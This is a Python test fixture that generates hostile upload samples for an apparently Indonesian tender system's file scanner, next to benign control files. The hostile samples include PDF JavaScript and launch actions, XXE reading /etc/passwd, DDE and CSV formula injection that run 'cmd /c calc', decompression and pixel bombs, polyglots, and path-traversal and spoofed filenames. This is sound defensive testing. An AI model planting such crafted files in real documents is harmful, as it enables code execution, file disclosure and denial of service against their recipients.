"""Documents that mean harm, and honest ones beside them. `CORPUS` and `HONEST` as in hostile_zips."""

import io
import struct
import zlib

from PIL import Image

from pasok.tenders.sandbox.texts import EICAR
from pasok.tenders.tests.hostile_zips import MB, Made, One, packed, raw

TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{}" Target="{}" TargetMode="External"/></Relationships>'
)
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf(body: bytes, *, before: bytes = b"", after: bytes = b"") -> bytes:
    page = b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] >> endobj\n"
    return (
        before
        + b"%PDF-1.7\n"
        + page
        + b"3 0 obj "
        + body
        + b" endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
        + after
    )


def stream(data: bytes, terms: bytes = b"/Filter /FlateDecode") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), terms) + data + b"\nendstream"


def flat(size: int) -> bytes:
    worker = zlib.compressobj(9)
    piece = worker.compress(bytes(16 * MB)) + worker.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    more = again.compress(bytes(16 * MB)) + again.flush(zlib.Z_FULL_FLUSH)
    return piece + more * (size // (16 * MB))


def png(width: int, height: int) -> bytes:
    head = struct.pack(">II5B", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + b"IHDR"
        + head
        + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    )


def jpg(width: int, height: int) -> bytes:
    return (
        b"\xff\xd8\xff\xe0\x00\x04\x00\x00\xff\xc0\x00\x0b\x08"
        + struct.pack(">HH", height, width)
        + bytes(20)
    )


def gif(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + bytes(20)


def tiff(width: int, height: int) -> bytes:
    rows = struct.pack("<HHII", 256, 4, 1, width) + struct.pack("<HHII", 257, 4, 1, height)
    return b"II*\x00" + struct.pack("<IH", 8, 2) + rows + bytes(4)


def picture(form: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "green").save(out, form)
    return out.getvalue()


def office(**parts: str) -> bytes:
    """Parts by their names, with __ for / and _dot_ for ."""
    named = {name.replace("__", "/").replace("_dot_", "."): text.encode() for name, text in parts.items()}
    return raw(packed("[Content_Types].xml", TYPES), *(packed(name, text) for name, text in named.items()))


def ole(*names: str) -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(600)
        + b"".join(n.encode("utf-16-le") for n in names)
        + bytes(90)
    )


CODED = JS.replace(b"JavaScript", b"J#61vaScript").replace(b"/JS", b"/#4aS")
HIDDEN = b"5 0 " + JS
OBJECTS = stream(zlib.compress(HIDDEN), b"/Type /ObjStm /Filter /FlateDecode")
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'
LINK = '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
FIELD = "<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>"
OBJECT, TEMPLATE = RELATION.format("oleObject", "file://x"), RELATION.format("attachedTemplate", "http://x")
CORPUS: list[Made] = [
    ("skrip.pdf", lambda: pdf(JS), "pdf_script"),
    ("sandi.pdf", lambda: pdf(CODED), "pdf_script"),
    ("objstm.pdf", lambda: pdf(OBJECTS), "pdf_script"),
    ("xfa.pdf", lambda: pdf(b"<< /AcroForm << /XFA 4 0 R >> >>"), "pdf_script"),
    ("jalan.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), "pdf_launch"),
    ("lampiran.pdf", lambda: pdf(b"<< /Names << /EmbeddedFiles 4 0 R >> >>"), "pdf_files"),
    ("formulir.pdf", lambda: pdf(b"<< /S /SubmitForm /F (http://x.example) >>"), "external"),
    ("kunci.pdf", lambda: pdf(b"<< >>", after=b"trailer << /Encrypt 9 0 R >>"), "locked"),
    ("bom.pdf", lambda: pdf(stream(flat(1024 * MB))), "bomb"),
    ("heksa.pdf", lambda: pdf(stream(HIDDEN.hex().encode(), b"/Type /ObjStm /Filter /AHx")), "pdf_hidden"),
    ("eicar.pdf", lambda: pdf(stream(zlib.compress(EICAR))), "eicar"),
    ("eicar-polos.pdf", lambda: pdf(stream(EICAR, b"")), "eicar"),
    ("ganda.pdf", lambda: pdf(b"<< >>", after=raw(One("a.txt"))), "polyglot"),
    ("laman.pdf", lambda: pdf(b"<< >>", before=b"<script>alert(1)</script>"), "polyglot"),
    ("luas.png", lambda: png(30_000, 30_000), "pixels"),
    ("luas.jpg", lambda: jpg(65_500, 65_500), "pixels"),
    ("luas.gif", lambda: gif(65_535, 65_535), "pixels"),
    ("luas.tif", lambda: tiff(90_000, 90_000), "pixels"),
    ("luas-dalam.zip", lambda: raw(packed("a.png", png(30_000, 30_000))), "pixels"),
    ("tanpa.png", lambda: png(0, 0), "damaged"),
    ("gifar.gif", lambda: gif(9, 9) + raw(One("A.class", b"\xca\xfe\xba\xbe")), "polyglot"),
    ("skrip.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "script"),
    ("skrip.html", lambda: b"<!doctype html><script>alert(1)</script>", "script"),
    ("tautan.xlsx", lambda: office(xl__externalLinks__externalLink1_dot_xml="<a/>"), "external"),
    ("ambil.xlsx", lambda: office(xl___rels__workbook_dot_rels=OBJECT), "external"),
    ("dde.xlsx", lambda: office(xl__links__l_dot_xml=LINK), "dde"),
    ("xxe.xlsx", lambda: office(xl__a_dot_xml=XXE), "entities"),
    ("sel.xlsx", lambda: office(xl__s_dot_xml="<sst><si><t>=cmd|'/c calc'!A0</t></si></sst>"), "formula"),
    ("templat.docx", lambda: office(word___rels__s_dot_rels=TEMPLATE), "external"),
    ("makro.docx", lambda: office(word__vbaProject_dot_bin="x"), "macro"),
    ("dde.docx", lambda: office(word__d_dot_xml=FIELD), "dde"),
    ("objek.docx", lambda: office(word__embeddings__oleObject1_dot_bin="x"), "embedded"),
    ("makro.xls", lambda: ole("Workbook", "_VBA_PROJECT_CUR", "VBA", "_VBA_PROJECT"), "macro"),
    ("kunci.xlsx", lambda: ole("EncryptedPackage"), "locked"),
    ("objek.rtf", lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "embedded"),
    ("templat.rtf", lambda: b"{\\rtf1{\\*\\template http://x.example/a.dot}}", "external"),
    ("rumus.csv", lambda: b"nama;harga\nbaut;=cmd|'/c calc'!A0\n", "formula"),
    ("rumus-plus.csv", lambda: b"nama,harga\nbaut,+SUM(A1:A9)\n", "formula"),
    ("rumus-tab.csv", lambda: b'nama;harga\nbaut;"\t=1+1"\n', "formula"),
    ("rumus-at.csv", lambda: "nama,harga\nbaut,@SUM(A1)\n".encode("utf-16"), "formula"),
    ("kosong.pdf", lambda: b"", "empty"),
    ("n" * 251 + ".pdf", lambda: pdf(b"<< >>"), "name"),
    ("nol\x00.pdf", lambda: pdf(b"<< >>"), "name"),
    ("CON.pdf", lambda: pdf(b"<< >>"), "name"),
    ("../naik.pdf", lambda: pdf(b"<< >>"), "name"),
    ("gaji\u202efdp.exe", lambda: pdf(b"<< >>"), "name_direction"),
    ("surat.pdf.exe", lambda: pdf(b"<< >>"), "name_double"),
    ("program.pdf", lambda: b"MZ" + bytes(500), "program"),
    ("gambar.pdf", lambda: picture("PNG"), "name_type"),
    ("arsip.docx", lambda: raw(One("a.txt")), "name_type"),
    ("eicar.txt", lambda: EICAR, "eicar"),
    ("acak.bin", lambda: bytes(range(256)) * 9, "unknown"),
    ("raksasa.txt", lambda: b"x" * (51 * MB), "large"),
]  # fmt: skip
HONEST: list[Made] = [
    ("Surat penawaran (1).pdf", lambda: pdf(stream(zlib.compress(b"BT /F1 12 Tf (JS) Tj ET"))), ""),
    ("foto.jpg", lambda: picture("JPEG"), ""),
    ("foto.png", lambda: picture("PNG"), ""),
    ("foto.webp", lambda: picture("WEBP"), ""),
    ("denah.tif", lambda: picture("TIFF"), ""),
    ("denah.bmp", lambda: picture("BMP"), ""),
    ("RAB v1.2.xlsx", lambda: office(xl__s_dot_xml="<c><f>SUM(A1:A9)</f><v>-5</v></c>"), ""),
    ("surat.docx", lambda: office(word___rels__d_dot_rels=RELATION.format("hyperlink", "https://x")), ""),
    ("harga.csv", lambda: b"nama;telepon;selisih;catatan\nbaut;+62 812-3456;-1.500,50;-\n", ""),
    ("lama.doc", lambda: ole("WordDocument", "1Table"), ""),
    ("bukti.zip", lambda: raw(packed("a/surat.pdf", pdf(b"<< >>")), packed("foto.png", picture("PNG"))), ""),
    ("catatan.txt", lambda: "Harga sudah termasuk PPN – terima kasih.".encode(), ""),
]  # fmt: skip
